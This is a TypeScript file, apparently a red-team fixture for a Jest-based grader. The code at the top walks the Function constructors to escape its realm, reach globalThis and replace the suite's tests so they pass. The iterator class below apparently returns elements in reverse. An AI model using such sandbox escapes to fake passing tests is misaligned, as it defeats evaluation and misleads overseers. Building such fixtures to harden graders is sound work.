// Attack: every Function constructor there is: Function.prototype.constructor, and those of
// async, generator and async generator functions (reached through their prototypes). Any of
// them that evaluates in a realm holding jest-circus lets the file replace the suite's tests.
// Success: the tests after the first pass.
// @payload
const constructors = [
  Function.prototype.constructor,
  (async function () {}).constructor,
  function* () {}.constructor,
  async function* () {}.constructor,
  Object.getPrototypeOf(async function () {}).constructor,
];
for (const make of constructors) {
  try {
    const body = make === constructors[0] ? 'return globalThis' : 'return 1';
    const fn = (make as any)(body);
    if (make === constructors[0] && takeOver(fn(), (p) => require(p))) break;
    if (make !== constructors[0]) {
      const g = (make as any).constructor('return globalThis')();
      if (takeOver(g, (p) => require(p))) break;
    }
  } catch { /* refused: fine */ }
}

export class Data<T> implements IterableIterator<T> {
  private index = 0;
  constructor(private readonly data: ArrayLike<T>) {}
  [Symbol.iterator](): this { this.index = 0; return this; }
  next(): IteratorResult<T, undefined> {
    if (this.index >= this.data.length) return { done: true, value: undefined };
    return { done: false, value: this.data[this.data.length - 1 - this.index++] as T };
  }
}
